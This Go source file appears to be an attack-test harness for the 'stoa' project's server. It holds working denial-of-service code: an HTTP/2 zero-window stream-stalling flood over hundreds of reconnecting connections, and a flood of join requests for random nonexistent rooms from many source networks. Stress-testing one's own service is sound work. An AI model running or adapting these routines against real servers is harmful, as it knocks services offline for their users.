package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"crypto/tls"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"stoa/worldstate"
)

const (
	stallers = 200 // connections
	streams  = 50  // per connection
)

// stallStreams requests pages on many HTTP/2 streams without a window, and reconnects
// whenever a connection ends.
func stallStreams(ctx context.Context, a *attacker) (int, error) {
	var asked atomic.Int64
	var all sync.WaitGroup
	for i := range stallers {
		all.Go(func() {
			_ = pause(ctx, time.Duration(i)*frameTime) // handshakes load this machine too
			for ctx.Err() == nil {
				_ = stall(ctx, a, i%8, &asked) // the server ends the connection
				_ = pause(ctx, frameTime)
			}
		})
	}
	all.Wait()
	return int(asked.Load()), nil
}

func stall(ctx context.Context, a *attacker, from int, asked *atomic.Int64) error {
	raw, err := a.dialer(from).DialContext(ctx, "tcp", a.host)
	if err != nil {
		return err
	}
	defer raw.Close()
	defer context.AfterFunc(ctx, func() { raw.Close() })()
	c := tls.Client(raw, strange("h2"))
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return err
	}
	f := http2.NewFramer(c, c)
	if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	for n := range uint32(streams) {
		var headers bytes.Buffer
		encoder := hpack.NewEncoder(&headers)
		for _, field := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: a.host}, {Name: ":path", Value: "/"}} {
			_ = encoder.WriteField(field) // into memory
		}
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: headers.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		asked.Add(1)
	}
	for {
		if _, err := f.ReadFrame(); err != nil {
			return err
		}
	}
}

const nowhereFrom = 40 // networks

// joinNowhere calls join for unknown rooms from many addresses.
func joinNowhere(ctx context.Context, a *attacker) (int, error) {
	var asked atomic.Int64
	var all sync.WaitGroup
	for i := range nowhereFrom {
		web := a.web(i)
		all.Go(func() {
			for pause(ctx, frameTime) == nil { // 50 a second each
				address, _, _ := strings.Cut(a.room, "/r/")
				request, err := http.NewRequestWithContext(ctx, http.MethodPost, address+"/api/v1/rooms/"+worldstate.NewRoomID().String()+"/join",
					strings.NewReader(`{"name":"Mallory","colour":"#000000"}`))
				if err != nil {
					return
				}
				if answer, err := web.Do(request); err == nil {
					_, _ = io.Copy(io.Discard, answer.Body)
					answer.Body.Close()
					asked.Add(1)
				}
			}
			web.CloseIdleConnections()
		})
	}
	all.Wait()
	if asked.Load() == 0 {
		return 0, fmt.Errorf("nobody could ask")
	}
	return int(asked.Load()), nil
}
